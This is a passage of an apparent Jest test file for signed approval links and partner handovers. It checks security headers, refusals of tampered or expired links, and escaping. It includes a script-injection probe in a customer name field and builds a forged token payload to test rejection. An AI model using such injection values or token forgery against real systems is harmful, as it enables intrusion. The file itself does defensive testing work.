// Partner handovers end to end through the local host: the approval links'
// endpoint, the handover from request to switch, the switch when things go
// wrong, and partners trying what they must not. Each part on a host of its
// own with the demo world as it starts (test/helpers/freshHost.ts), one after
// another; the approval endpoint's part reads the app's store directly, so it
// runs first, on the modules this file loaded.
import * as fs from 'node:fs';
import * as path from 'node:path';
import { parse } from 'csv-parse/sync';
import * as df from 'durable-functions';
import { answerHandover, type UsedApprovalLink } from '../../functions/http/approvalAnswer';
import { CONTAINERS } from '../../shared/adapters/state/containers';
import type { StateStore } from '../../shared/adapters/state/stateStores';
import { applyHandoverEvent, type HandoverParty } from '../../shared/core/domain/rules/handover';
import type { StoredHandover, HandoverSignal, HandoverStatus } from '../../shared/core/handover/handoverSchemas';
import { approvalTokenId } from '../../shared/features/handover/approvalToken';
import { readHandover, storeHandover } from '../../shared/features/handover/handoverStore';
import { SUB_7, SUB_8, runMonth } from '../helpers/accruals';
import { AppHost, CUSTOMERS, startAppHost } from '../helpers/appHost';
import { handoverRecord, insertedHandover, linkTo, startedHandover, type StartedHandover } from '../helpers/approvalLinks';
import { appStateStore, freshAppHost } from '../helpers/freshHost';
import { Contacts, handoverClient } from '../helpers/handovers';
import { memoryStores } from '../helpers/stateStores';
import { startTestHost, tempDir } from '../helpers/testHost';

describe('the approval links\' endpoint', () => {
    // GET|POST /api/approvals/{token} through the local host: the page a party
    // opens from its mail, every way an answer is refused without changing
    // anything (handover documents written straight into the store, Fabrikam),
    // and answers reaching a real partnerHandover run (started through the API,
    // Lucerne, links from the mails). The answer logic is also covered below with
    // a stand-in run, for what a real run does too fast or too rarely to catch.
    const PAGE = { accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' };
    const JSON_ACCEPT = { accept: 'application/json' };
    const FORM = { ...PAGE, 'content-type': 'application/x-www-form-urlencoded' };
    const pathOf = (link: string) => new URL(link).pathname;

    describe('the local host keeps a generated approval signing key in DATA_DIR', () => {
        const EMPTY_APP = path.join(__dirname, '..', 'apps', 'emptyApp.ts');
        let saved: string | undefined;
        beforeAll(() => { saved = process.env.APPROVAL_SIGNING_KEY; });
        afterAll(() => {
            if (saved === undefined) delete process.env.APPROVAL_SIGNING_KEY;
            else process.env.APPROVAL_SIGNING_KEY = saved;
        });

        test('generated once, long enough, and the same after a restart; a configured key wins', async () => {
            const dir = tempDir('too-approval-key-');
            try {
                const keyOfStart = async () => {
                    delete process.env.APPROVAL_SIGNING_KEY;
                    const t = await startTestHost(EMPTY_APP, { dataDir: dir });
                    await t.stop();
                    return process.env.APPROVAL_SIGNING_KEY;
                };
                const first = await keyOfStart();
                expect(first).toMatch(/^[A-Za-z0-9_-]{43}$/); // 32 random bytes, base64url
                expect(await keyOfStart()).toBe(first);

                process.env.APPROVAL_SIGNING_KEY = 'c'.repeat(40);
                const t = await startTestHost(EMPTY_APP, { dataDir: dir });
                await t.stop();
                expect(process.env.APPROVAL_SIGNING_KEY).toBe('c'.repeat(40));
            } finally {
                fs.rmSync(dir, { recursive: true, force: true });
            }
        });
    });

    describe('through the local host', () => {
        let app: AppHost;
        beforeAll(async () => { app = await startAppHost(); });
        afterAll(async () => { await app.stop(); });
        afterEach(() => { jest.restoreAllMocks(); });

        const raises = () => jest.spyOn(app.host.engine, 'raiseEvent');
        const used = (r: Pick<StoredHandover, 'id' | 'customerTenantId'>, party: HandoverParty) => appStateStore().read<UsedApprovalLink>(CONTAINERS.approvalTokens, r.customerTenantId, approvalTokenId(r.id, party));
        const stored = async (r: StoredHandover) => {
            const doc = await readHandover(appStateStore(), r.customerTenantId, r.id);
            const { etag: _etag, pk: _pk, ...rest } = doc!;
            return rest;
        };

        /** What every page must carry: the token is in the URL. */
        const expectPageHeaders = (headers: Headers) => {
            expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
            expect(headers.get('cache-control')).toBe('no-store');
            expect(headers.get('referrer-policy')).toBe('no-referrer');
            expect(headers.get('x-frame-options')).toBe('DENY');
            expect(headers.get('content-security-policy')).toMatch(/default-src 'none'.*form-action 'self'.*frame-ancestors 'none'/);
        };
        const expectProblem = (res: { status: number; headers: Headers; json: any }, status: number, code: string) => {
            expect({ status: res.status, type: res.headers.get('content-type'), cache: res.headers.get('cache-control') }).toEqual({ status, type: 'application/problem+json', cache: 'no-store' });
            expect(res.json).toMatchObject({ status, code, detail: expect.any(String), remedy: expect.any(String) });
        };
        const expectErrorPage = (res: { status: number; headers: Headers; text: string }, status: number, code: string) => {
            expect(res.status).toBe(status);
            expectPageHeaders(res.headers);
            expect(res.text).toContain(`<code>${code}</code>`);
            expect(res.text).not.toMatch(/<form/);
        };

        test('GET renders the request for the link\'s party: who asks what, for whom, where charges go, the deadline, and the form', async () => {
            const { record, link } = await insertedHandover(app.url);
            const res = await app.call('GET', pathOf(await link('newPartner')), undefined, PAGE);
            expect(res.status).toBe(200);
            expectPageHeaders(res.headers);
            const page = res.text;
            expect(page).toMatch(/^<!doctype html>\n<html lang="en">/);
            expect(page).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
            expect(page).toMatch(/<main>[\s\S]*<h1>Hand over Fabrikam’s overage to Litware Voice\?<\/h1>/);
            expect(page).toContain('admin@litware-voice.example asks to move the telco overage of Fabrikam from Contoso Telecom to Litware Voice');
            expect(page).toContain('You are answering as <strong>the new partner</strong> (Litware Voice)');
            expect(page).toContain('<code>30000000-0000-4000-8000-000000000002</code>');
            expect(page).toContain('Teams Phone');
            const deadline = new Intl.DateTimeFormat('en-GB', { timeZone: 'UTC', dateStyle: 'long', timeStyle: 'short' }).format(new Date(record.state.expiresAt));
            expect(page).toContain(`<dt>Answer by</dt><dd><time datetime="${record.state.expiresAt}">${deadline} UTC</time></dd>`);
            expect(page).toContain('<form method="post">');
            expect(page).toContain('<label for="reason">');
            expect(page).toMatch(/<textarea id="reason" name="reason"[^>]*maxlength="1000"/);
            expect(page).toContain('<button type="submit" name="decision" value="approve"');
            expect(page).toContain('<button type="submit" name="decision" value="decline"');
            expect(page).toContain('Still awaited</dt><dd>The current partner, the new partner and the customer');
        });

        test('GET for each party says which party the link answers for', async () => {
            const { link } = await insertedHandover(app.url);
            for (const [party, says] of [['currentPartner', 'the current partner</strong> (Contoso Telecom)'], ['customer', 'the customer</strong> (Fabrikam)']] as const) {
                expect((await app.call('GET', pathOf(await link(party)), undefined, PAGE)).text).toContain(`You are answering as <strong>${says}`);
            }
        });

        test('a new subscription is named as such; every value from the document is escaped', async () => {
            const { link } = await insertedHandover(app.url, (r) => {
                r.request = { ...r.request, azureEntitlementId: 'new', subscriptionName: 'Teams <b>overage</b>' };
                r.state.toAzureTarget = 'new';
                r.parties.customer.name = '<script>alert("x")</script> & Sons';
            });
            const page = (await app.call('GET', pathOf(await link('customer')), undefined, PAGE)).text;
            expect(page).toContain('a new Azure subscription named “Teams &lt;b&gt;overage&lt;/b&gt;”');
            expect(page).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Sons');
            expect(page).not.toMatch(/<script|<b>/);
        });

        test('GET asking for JSON describes the handover for the party', async () => {
            const { record, link } = await insertedHandover(app.url);
            const res = await app.call('GET', pathOf(await link('customer')), undefined, JSON_ACCEPT);
            expect(res.status).toBe(200);
            expect(res.headers.get('content-type')).toBe('application/json');
            expect(res.headers.get('cache-control')).toBe('no-store');
            expect(res.json).toMatchObject({
                handoverId: record.id, party: 'customer', partyLabel: 'the customer', customer: { name: 'Fabrikam' },
                from: { partnerId: '1001', name: 'Contoso Telecom' }, to: { partnerId: '1002', name: 'Litware Voice' },
                chargesTo: { kind: 'existing', azureEntitlementId: '30000000-0000-4000-8000-000000000002' },
                expiresAt: record.state.expiresAt, status: 'awaiting-approvals', decision: null,
                awaiting: ['currentPartner', 'newPartner', 'customer'], canAnswer: true, answerPending: false,
            });
        });

        test('a tampered link: 400 page for a browser, problem+json for a program; nothing is written or raised', async () => {
            const raised = raises();
            const { record, link } = await insertedHandover(app.url);
            const good = pathOf(await link('newPartner'));
            const [header, payload, signature] = good.slice('/api/approvals/'.length).split('.');
            const claims = JSON.parse(Buffer.from(payload, 'base64url').toString());
            const forged = `/api/approvals/${header}.${Buffer.from(JSON.stringify({ ...claims, party: 'customer', jti: `${record.id}.customer` })).toString('base64url')}.${signature}`;
            const before = await stored(record);

            expectErrorPage(await app.call('GET', forged, undefined, PAGE), 400, 'approval-link-invalid');
            expectProblem(await app.call('POST', forged, { decision: 'approve' }), 400, 'approval-link-invalid');
            expectErrorPage(await app.call('POST', forged, 'decision=approve', FORM), 400, 'approval-link-invalid');
            expectProblem(await app.call('GET', '/api/approvals/not-a-token', undefined, JSON_ACCEPT), 400, 'approval-link-invalid');

            expect(raised).not.toHaveBeenCalled();
            expect(await used(record, 'customer')).toBeUndefined();
            expect(await used(record, 'newPartner')).toBeUndefined();
            expect(await stored(record)).toEqual(before);
        });

        test('an expired link: 410, nothing written or raised', async () => {
            const raised = raises();
            const { record, link } = await insertedHandover(app.url);
            const expired = pathOf(await link('customer', { expiresAt: new Date(Date.now() - 1000).toISOString() }));
            const page = await app.call('GET', expired, undefined, PAGE);
            expectErrorPage(page, 410, 'approval-link-expired');
            expect(page.text).toContain('This approval link has expired');
            expectProblem(await app.call('POST', expired, { decision: 'approve' }), 410, 'approval-link-expired');
            expect(raised).not.toHaveBeenCalled();
            expect(await used(record, 'customer')).toBeUndefined();
        });

        test('the requester cancels before the run started: 503 handover-starting with Retry-After, nothing raised, the handover unchanged', async () => {
            const { record } = await insertedHandover(app.url, (r) => { r.requestedBy = { partnerId: '1001', upn: 'admin@contoso-telecom.example' }; });
            const raised = raises();
            const res = await app.as('contosoAdmin')('DELETE', `/api/customers/${record.customerTenantId}/overage/handovers/${record.id}`);
            expect([res.status, res.headers.get('content-type'), res.json.code]).toEqual([503, 'application/problem+json', 'handover-starting']);
            expect(res.headers.get('retry-after')).toBe('5');
            expect(raised).not.toHaveBeenCalled();
            expect((await readHandover(appStateStore(), record.customerTenantId, record.id))!.status).toBe('awaiting-approvals');
        }, 30_000);

        test('a link to a handover that does not exist: 404', async () => {
            const ghost = handoverRecord();
            const link = pathOf(await linkTo(app.url, ghost, 'customer'));
            expectErrorPage(await app.call('GET', link, undefined, PAGE), 404, 'handover-not-found');
            expectProblem(await app.call('GET', link, undefined, JSON_ACCEPT), 404, 'handover-not-found');
            expectProblem(await app.call('POST', link, { decision: 'approve' }), 404, 'handover-not-found');
            expect(await used(ghost, 'customer')).toBeUndefined();
        });

        test('a used link: 409 approval-link-used, nothing raised, the earlier answer kept', async () => {
            const raised = raises();
            const { record, link } = await insertedHandover(app.url);
            const earlier: UsedApprovalLink = { id: approvalTokenId(record.id, 'newPartner'), handoverId: record.id, party: 'newPartner', decision: 'approve', usedAt: new Date().toISOString() };
            await appStateStore().create(CONTAINERS.approvalTokens, record.customerTenantId, earlier);
            const url = pathOf(await link('newPartner'));

            expectProblem(await app.call('POST', url, { decision: 'decline' }), 409, 'approval-link-used');
            expectErrorPage(await app.call('POST', url, 'decision=decline', FORM), 409, 'approval-link-used');
            expect(raised).not.toHaveBeenCalled();
            expect(await used(record, 'newPartner')).toMatchObject({ decision: 'approve', usedAt: earlier.usedAt });
            // until the run shows the answer, the page says it is on its way instead of offering the form again
            const page = await app.call('GET', url, undefined, PAGE);
            expect(page.text).toContain('Your answer was received and is being processed');
            expect(page.text).not.toContain('<form');
        });

        test('a party that already answered: 409 handover-already-decided, and the page shows its answer', async () => {
            const raised = raises();
            const { record, link } = await insertedHandover(app.url, (r) => {
                r.state.decisions.currentPartner = { decision: 'approved', at: '2030-01-01T10:00:00.000Z', by: 'overage@contoso-telecom.example', reason: 'Agreed <by phone>' };
            });
            const url = pathOf(await link('currentPartner'));
            const res = await app.call('POST', url, { decision: 'decline' });
            expectProblem(res, 409, 'handover-already-decided');
            expect(res.json.detail).toMatch(/already approved/);
            const page = await app.call('GET', url, undefined, PAGE);
            expect(page.status).toBe(200);
            expect(page.text).toContain('You approved this handover for the current partner');
            expect(page.text).toContain('Agreed &lt;by phone&gt;');
            expect(page.text).toContain('Still awaited: the new partner and the customer.');
            expect(page.text).not.toContain('<form');
            expect(raised).not.toHaveBeenCalled();
            expect(await used(record, 'currentPartner')).toBeUndefined();
        });

        test.each<[HandoverStatus, RegExp]>([
            ['declined', /declined; nothing changed/],
            ['expired', /expired before all three parties approved/],
            ['completed', /complete: Litware Voice now manages the overage/],
        ])('handover %s: 409 handover-closed, the page says so instead of the form', async (status, says) => {
            const raised = raises();
            const { record, link } = await insertedHandover(app.url, (r) => { r.status = status; });
            const url = pathOf(await link('customer'));
            const res = await app.call('POST', url, { decision: 'approve' });
            expectProblem(res, 409, 'handover-closed');
            expect(res.json.detail).toMatch(says);
            const page = await app.call('GET', url, undefined, PAGE);
            expect(page.status).toBe(200);
            expect(page.text).toMatch(says);
            expect(page.text).not.toContain('<form');
            expect(raised).not.toHaveBeenCalled();
            expect(await used(record, 'customer')).toBeUndefined();
        });

        test('no run behind the document: 409 handover-closed, and the link is freed again', async () => {
            const raised = raises();
            const { record, link } = await insertedHandover(app.url);
            const url = pathOf(await link('customer'));
            const before = await stored(record);
            const res = await app.call('POST', url, 'decision=approve&reason=', FORM);
            expectErrorPage(res, 409, 'handover-closed');
            expect(res.text).toContain('This handover has ended and takes no more answers');
            expect(raised).not.toHaveBeenCalled();
            expect(await used(record, 'customer')).toBeUndefined();
            expect(await stored(record)).toEqual(before);
        });

        test('a body that is not an answer: 400 invalid-request naming the field; nothing written', async () => {
            const { record, link } = await insertedHandover(app.url);
            const url = pathOf(await link('customer'));
            const maybe = await app.call('POST', url, { decision: 'maybe' });
            expectProblem(maybe, 400, 'invalid-request');
            expect(maybe.json.issues).toEqual([expect.objectContaining({ path: 'decision' })]);
            const long = await app.call('POST', url, { decision: 'decline', reason: 'x'.repeat(1001) });
            expectProblem(long, 400, 'invalid-request');
            expect(long.json.issues).toEqual([expect.objectContaining({ path: 'reason' })]);
            expectProblem(await app.call('POST', url, { decision: 'approve', extra: 1 }), 400, 'invalid-request');
            expectProblem(await app.call('POST', url, 'not json', { 'content-type': 'application/json' }), 400, 'invalid-request');
            expectProblem(await app.call('POST', url, { decision: 'approve', reason: 'x'.repeat(20_000) }), 413, 'body-too-large');
            const form = await app.call('POST', url, 'reason=hello', FORM);
            expectErrorPage(form, 400, 'invalid-request');
            expect(form.text).toContain('Choose Approve or Decline');
            expect(await used(record, 'customer')).toBeUndefined();
        });

        test('a program that prefers HTML gets the page; one that prefers JSON gets problem details', async () => {
            const { link } = await insertedHandover(app.url, (r) => { r.status = 'cancelled'; });
            const url = pathOf(await link('customer'));
            expectErrorPage(await app.call('POST', url, { decision: 'approve' }, { accept: 'text/html' }), 409, 'handover-closed');
            expectProblem(await app.call('POST', url, { decision: 'approve' }, { accept: 'text/html;q=0.5, application/json' }), 409, 'handover-closed');
            expectProblem(await app.call('POST', url, { decision: 'approve' }), 409, 'handover-closed');
        });

        describe('against a real partnerHandover run (Lucerne; one handover at a time, each waited to its end)', () => {
            const lucerne = CUSTOMERS.lucerne;
            let last: StartedHandover | undefined;
            const start = async () => (last = await startedHandover(app));
            // a test that failed half way must not leave the customer locked for the next: cancel what still waits, let it end
            afterEach(async () => {
                if (!last) return;
                const { location, agent } = last;
                last = undefined;
                await app.as(agent)('DELETE', new URL(location).pathname);
                await handoverClient(app).ended(location, agent);
            });

            test('each approval is recorded and says who is still awaited; a used link is refused; the third approval starts the switch', async () => {
                const c = handoverClient(app);
                const started = await start();
                const { id, links } = started;
                const ask = (party: HandoverParty) => c.answer(links[party], 'approve');

                const first = await ask('currentPartner');
                expect(first.status).toBe(200);
                expect(first.headers.get('cache-control')).toBe('no-store');
                expect(first.json).toMatchObject({
                    state: 'recorded', title: 'Your approval is recorded', handoverId: id, party: 'currentPartner', decision: 'approve',
                    recorded: { decision: 'approved', by: started.contacts.currentPartner },
                    handover: { status: 'awaiting-approvals', awaiting: ['newPartner', 'customer'] },
                });
                expect(first.json.detail).toBe('Still awaited: the new partner and the customer. Nothing changes until all three parties have approved.');
                expect(await used({ id, customerTenantId: lucerne }, 'currentPartner')).toMatchObject({ decision: 'approve' });

                // the same link once the run recorded the answer: the party has answered
                const again = await c.answer(links.currentPartner, 'decline');
                expectProblem(again, 409, 'handover-already-decided');
                // a double submit: the first answer takes the link, the second is refused before it reaches the run
                const raised = raises();
                const twice = await Promise.all([ask('newPartner'), ask('newPartner')]);
                expect(twice.map((r) => r.status).sort()).toEqual([200, 409]);
                const [won, lost] = twice[0].status === 200 ? twice : [twice[1], twice[0]];
                expectProblem(lost, 409, 'approval-link-used');
                expect(raised).toHaveBeenCalledTimes(1);
                raised.mockRestore();
                expect(won.json).toMatchObject({ state: 'recorded', party: 'newPartner', handover: { status: 'awaiting-approvals', awaiting: ['customer'] } });

                const third = await ask('customer');
                expect(third.status).toBe(200);
                expect(third.json).toMatchObject({ state: 'recorded', party: 'customer', recorded: { decision: 'approved' }, handover: { awaiting: [] } });
                expect(['switching', 'completed']).toContain(third.json.handover.status);
                expect(third.json.detail).toMatch(third.json.handover.status === 'switching'
                    ? /All three parties approved; the overage is being moved from .+ to .+ now\./
                    : /The handover is complete: .+ now manages the overage\./);

                const done = await c.ended(started.location, started.agent);
                expect(done.status).toBe('completed');
                expect(await c.pcOverage(lucerne)).toMatchObject({ partnerId: started.to.partnerId, overageEnabled: true });
                // the page now says it is done, without a form
                const page = await app.call('GET', pathOf(links.customer), undefined, PAGE);
                expect(page.status).toBe(200);
                expect(page.text).toContain(`The handover is complete: ${started.to.name} now manages the overage.`);
                expect(page.text).not.toContain('<form');
            });

            test('a decline is recorded and ends the handover; a late approval is refused with handover-closed and changes nothing', async () => {
                const c = handoverClient(app);
                const before = await c.pcOverage(lucerne);
                const started = await start();
                const { id, links } = started;

                const declined = await c.answer(links.newPartner, 'decline', 'Not before the contract ends.');
                expect(declined.status).toBe(200);
                expect(declined.json).toMatchObject({
                    state: 'recorded', title: 'You declined the handover', party: 'newPartner', decision: 'decline',
                    recorded: { decision: 'declined', reason: 'Not before the contract ends.' },
                    handover: { status: 'declined', awaiting: [] },
                });
                expect(declined.json.detail).toBe('The handover was declined; nothing changed.');

                const raised = raises();
                const late = await c.answer(links.customer, 'approve');
                expectProblem(late, 409, 'handover-closed');
                expect(late.json.detail).toMatch(/declined; nothing changed/);
                expect(raised).not.toHaveBeenCalled();
                expect(await used({ id, customerTenantId: lucerne }, 'customer')).toBeUndefined();

                const done = await c.ended(started.location, started.agent);
                expect(done).toMatchObject({ status: 'declined', decisions: { newPartner: { decision: 'declined' }, customer: null, currentPartner: null } });
                expect(await c.pcOverage(lucerne)).toEqual(before);
                // once the run has ended, the same refusal (and still nothing raised)
                expectProblem(await c.answer(links.currentPartner, 'approve'), 409, 'handover-closed');
                expect(raised).not.toHaveBeenCalled();
            });
        });
    });

    /** The answer logic with a run that records answers as partnerHandover will (write the document, newer version). */
    describe('answerHandover with a stand-in run', () => {
        const kind = memoryStores();
        let store: StateStore;
        let cleanup: () => Promise<void>;
        beforeEach(async () => { ({ store, cleanup } = await kind.open()); });
        afterEach(async () => { await cleanup(); });

        // long enough for the stand-in's write on a loaded machine; only an answer the run never records waits it out
        const FAST = { waitMs: 2000, pollMs: 10 };
        const linkOf = (r: StoredHandover, party: HandoverParty) => ({
            claims: { handoverId: r.id, customerTenantId: r.customerTenantId, party, expiresAt: r.state.expiresAt }, tokenId: approvalTokenId(r.id, party),
        });

        /**
         * A DurableClient that only knows one running instance, and records each answer raised on it after `delayMs`;
         * with `stateOnly`, as partnerHandover's first write does: the state machine's step, the document's status not yet.
         */
        function standInRun(o: { records?: boolean; delayMs?: number; missing?: boolean; stateOnly?: boolean } = {}) {
            const signals: HandoverSignal[] = [];
            const client = {
                getStatus: async (id: string) => {
                    if (o.missing) throw new Error(`DurableClient error: Durable Functions extension replied with HTTP 404 response. ${id}`);
                    return { runtimeStatus: 'Running' };
                },
                raiseEvent: async (id: string, _name: string, signal: HandoverSignal) => {
                    signals.push(signal);
                    if (o.records === false || signal.kind !== 'decision') return;
                    setTimeout(() => void (async () => {
                        const doc = (await readHandover(store, CUSTOMERS.fabrikam, id))!;
                        const applied = applyHandoverEvent(doc.state, signal);
                        if (!applied.ok) return;
                        const status: HandoverStatus = o.stateOnly ? doc.status
                            : applied.handover.status === 'declined' ? 'declined' : applied.handover.status === 'agreed' ? 'switching' : 'awaiting-approvals';
                        await storeHandover(store, { ...doc, version: doc.version + 1, state: applied.handover, status });
                    })(), o.delayMs ?? 20);
                },
            };
            return { client: client as unknown as df.DurableClient, signals };
        }

        test('an approval is raised with the party\'s contact and recorded: 200 with who is still awaited', async () => {
            const record = handoverRecord();
            await storeHandover(store, record);
            const run = standInRun();
            const result = await answerHandover(store, run.client, linkOf(record, 'customer'), { decision: 'approve', reason: 'Fine by us' }, FAST);
            expect(run.signals).toEqual([{ kind: 'decision', party: 'customer', decision: 'approve', at: expect.any(String), by: 'it@fabrikam.example', reason: 'Fine by us', handoverId: record.id }]);
            expect(result).toMatchObject({ outcome: { state: 'recorded', decision: 'approve', view: { status: 'awaiting-approvals', awaiting: ['currentPartner', 'newPartner'], decision: { decision: 'approved' } } } });
            expect(await store.read(CONTAINERS.approvalTokens, record.customerTenantId, approvalTokenId(record.id, 'customer'))).toMatchObject({ party: 'customer', decision: 'approve' });
        });

        test('the third approval: the handover is switching', async () => {
            const record = handoverRecord((r) => {
                r.state.decisions.currentPartner = { decision: 'approved', at: r.requestedAt };
                r.state.decisions.newPartner = { decision: 'approved', at: r.requestedAt };
            });
            await storeHandover(store, record);
            const result = await answerHandover(store, standInRun().client, linkOf(record, 'customer'), { decision: 'approve' }, FAST);
            expect(result).toMatchObject({ outcome: { state: 'recorded', view: { status: 'switching', awaiting: [] } } });
        });

        test('a decline closes the handover', async () => {
            const record = handoverRecord();
            await storeHandover(store, record);
            const result = await answerHandover(store, standInRun().client, linkOf(record, 'newPartner'), { decision: 'decline' }, FAST);
            expect(result).toMatchObject({ outcome: { state: 'recorded', decision: 'decline', view: { status: 'declined', decision: { decision: 'declined' } } } });
        });

        test('a run that does not show the answer in time: received (202), the link stays used', async () => {
            const record = handoverRecord();
            await storeHandover(store, record);
            const run = standInRun({ records: false });
            const result = await answerHandover(store, run.client, linkOf(record, 'customer'), { decision: 'approve' }, FAST);
            expect(result).toMatchObject({ outcome: { state: 'received', view: { decision: null } } });
            expect(run.signals).toHaveLength(1);
            const again = await answerHandover(store, run.client, linkOf(record, 'customer'), { decision: 'approve' }, FAST);
            expect(again).toMatchObject({ refused: { status: 409, code: 'approval-link-used' } });
            expect(run.signals).toHaveLength(1);
        });

        test('between the run\'s two writes (the answer, then the status): the third approval reads as switching, a decline as declined', async () => {
            const agreed = handoverRecord((r) => {
                r.state.decisions.currentPartner = { decision: 'approved', at: r.requestedAt };
                r.state.decisions.newPartner = { decision: 'approved', at: r.requestedAt };
            });
            await storeHandover(store, agreed);
            expect(await answerHandover(store, standInRun({ stateOnly: true }).client, linkOf(agreed, 'customer'), { decision: 'approve' }, FAST))
                .toMatchObject({ outcome: { state: 'recorded', view: { status: 'switching', awaiting: [], canAnswer: false } } });

            const declined = handoverRecord();
            await storeHandover(store, declined);
            expect(await answerHandover(store, standInRun({ stateOnly: true }).client, linkOf(declined, 'newPartner'), { decision: 'decline' }, FAST))
                .toMatchObject({ outcome: { state: 'recorded', view: { status: 'declined', awaiting: [] } } });
            expect((await readHandover(store, declined.customerTenantId, declined.id))!.status).toBe('awaiting-approvals');
            // and an answer in that moment is refused before it is raised or takes its link
            const late = standInRun();
            expect(await answerHandover(store, late.client, linkOf(declined, 'customer'), { decision: 'approve' }, FAST)).toMatchObject({ refused: { status: 409, code: 'handover-closed' } });
            expect(late.signals).toEqual([]);
            expect(await store.read(CONTAINERS.approvalTokens, declined.customerTenantId, approvalTokenId(declined.id, 'customer'))).toBeUndefined();
        });

        test('a run that is gone: handover-closed, nothing raised, the link free again', async () => {
            const record = handoverRecord();
            await storeHandover(store, record);
            const run = standInRun({ missing: true });
            const result = await answerHandover(store, run.client, linkOf(record, 'customer'), { decision: 'approve' }, FAST);
            expect(result).toMatchObject({ refused: { status: 409, code: 'handover-closed' } });
            expect(run.signals).toEqual([]);
            expect(await store.read(CONTAINERS.approvalTokens, record.customerTenantId, approvalTokenId(record.id, 'customer'))).toBeUndefined();
        });
    });
});

describe('handovers', () => {
    // Partner handovers end to end through the local host: the three mails read
    // from the simulator's mailbox, their links followed as a person would, and
    // the result checked at the simulator's Partner Center, whose write log keeps
    // the order of the two changes. That every order of the three approvals
    // completes the switch is the orchestrator's to show (test/orchestrations/
    // partnerHandover.test.ts runs all six); here one order goes end to end.
    let h: AppHost;
    let c: ReturnType<typeof handoverClient>;
    const LUCERNE = CUSTOMERS.lucerne; // Contoso (1001) holds the assignment; Litware (1002) also sells an overage SKU there
    const SUB_7 = '30000000-0000-4000-8000-000000000007';
    const SUB_8 = '30000000-0000-4000-8000-000000000008';
    const TO_LITWARE: Contacts = { currentPartner: 'ops@contoso-telecom.example', newPartner: 'csp@litware-voice.example', customer: 'it@lucerne-publishing.example' };
    const TO_CONTOSO: Contacts = { currentPartner: TO_LITWARE.newPartner, newPartner: TO_LITWARE.currentPartner, customer: TO_LITWARE.customer };
    const ALL = Object.values(TO_LITWARE);

    beforeAll(async () => {
        h = await freshAppHost();
        c = handoverClient(h);
    });
    afterAll(async () => {
        delete process.env.HANDOVER_DAY_MS;
        await h.stop();
    });

    test('all three approve: A sets None first, then B assigns; three invitations, three confirmations, one audit trail', async () => {
        const since = await c.logSeq();
        const started = new Date().toISOString();
        const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8 });
        expect(res.status).toBe(202);
        const location = res.headers.get('location')!;
        expect(res.json).toMatchObject({
            status: 'awaiting-approvals', fromPartnerId: '1001', toPartnerId: '1002', service: 'PhoneServices', azureEntitlementId: SUB_8,
            decisions: { currentPartner: null, newPartner: null, customer: null },
        });
        expect(Date.parse(res.json.expiresAt) - Date.parse(res.json.requestedAt)).toBe(14 * 86_400_000);

        const links = await c.links(res.json.id, TO_LITWARE);
        const invitations = await c.mailsSince(started, ALL, /./);
        for (const address of ALL) {
            expect(invitations[address].text).toContain('Lucerne Publishing');
            expect(invitations[address].text).toContain(SUB_8);
            expect(invitations[address].text).toContain('UTC');
        }
        // each party gets its own link
        expect(new Set(Object.values(links)).size).toBe(3);

        for (const party of ['customer', 'newPartner', 'currentPartner'] as const) expect((await c.answer(links[party], 'approve')).status).toBeLessThan(300);
        const done = await c.ended(location);
        expect(done).toMatchObject({ status: 'completed', azureEntitlementId: SUB_8 });
        expect(done.decisions.customer).toMatchObject({ decision: 'approved', by: TO_LITWARE.customer });
        expect(Date.parse(done.noneSetAt)).toBeLessThanOrEqual(Date.parse(done.completedAt));

        // at Partner Center: B's subscription now, and A's None was written before B's assignment
        expect(await c.pcOverage(LUCERNE)).toMatchObject({ partnerId: '1002', azureEntitlementId: SUB_8, overageEnabled: true });
        expect(await c.overageWrites(since)).toEqual(['1001', '1002']);
        const confirmations = await c.mailsSince(done.completedAt, ALL, /complete|moved|done/i);
        expect(confirmations[TO_LITWARE.customer].text).toContain(SUB_8);
        const steps: string[] = done.steps.map((s: any) => s.step);
        expect(steps).toEqual(expect.arrayContaining(['request', 'approvals', 'preflight', 'set-none', 'set-overage', 'record']));
        expect(steps.indexOf('set-none')).toBeLessThan(steps.lastIndexOf('set-overage'));
        // the same trail the enablements write, readable by both partners
        const audit = (await h.as('litwareAdmin')('GET', `/api/customers/${LUCERNE}/overage/audit?runId=${done.id}`)).json.items;
        expect(audit.length).toBe(done.steps.length);
        // and the app's record moved: Litware may now manage it, Contoso may not
        const enable = await h.enable(LUCERNE, { azureEntitlementId: SUB_7 });
        expect(enable.status).toBe(202);
        expect(await h.finish(enable.headers.get('location')!)).toMatchObject({ result: 'refused', blockers: [{ code: 'owned-by-another-partner' }] });
    });

    test('a decline ends the handover declined (who, why, when), mails all three and changes nothing', async () => {
        const before = await c.pcOverage(LUCERNE);
        const from = before.partnerId === '1001' ? { agent: 'contosoAdmin' as const, to: '1002', contacts: TO_LITWARE, sub: SUB_8 } : { agent: 'litwareAdmin' as const, to: '1001', contacts: TO_CONTOSO, sub: SUB_7 };
        const res = await c.ask(LUCERNE, { toPartnerId: from.to, azureEntitlementId: from.sub }, from.agent);
        const links = await c.links(res.json.id, from.contacts);
        await c.answer(links.currentPartner, 'approve');
        const declined = await c.answer(links.customer, 'decline', 'We stay with our partner.');
        expect(declined.status).toBe(200);
        const done = await c.ended(res.headers.get('location')!, from.agent);
        expect(done.status).toBe('declined');
        expect(done.decisions.customer).toMatchObject({ decision: 'declined', by: from.contacts.customer, reason: 'We stay with our partner.' });
        expect(done.outcome.detail).toContain('We stay with our partner.');
        const mails = await c.mailsSince(done.outcome.at, ALL, /declin/i);
        expect(mails[from.contacts.newPartner].text).toContain('We stay with our partner.');
        expect(await c.pcOverage(LUCERNE)).toEqual(before);
        // a late answer changes nothing and says so
        const late = await c.answer(links.newPartner, 'approve');
        expect(late.status).toBe(409);
        expect(late.json.code).toBe('handover-closed');
        expect((await c.read(res.headers.get('location')!, from.agent)).decisions.newPartner).toBeNull();
    });

    test('unanswered: the silent parties are reminded at half-time, then the request expires and all three are told', async () => {
        // a "day" of 8 s: the reminder at half-time (4 s) leaves the new partner's answer time to land first on a loaded machine
        process.env.HANDOVER_DAY_MS = '8000';
        const before = await c.pcOverage(LUCERNE);
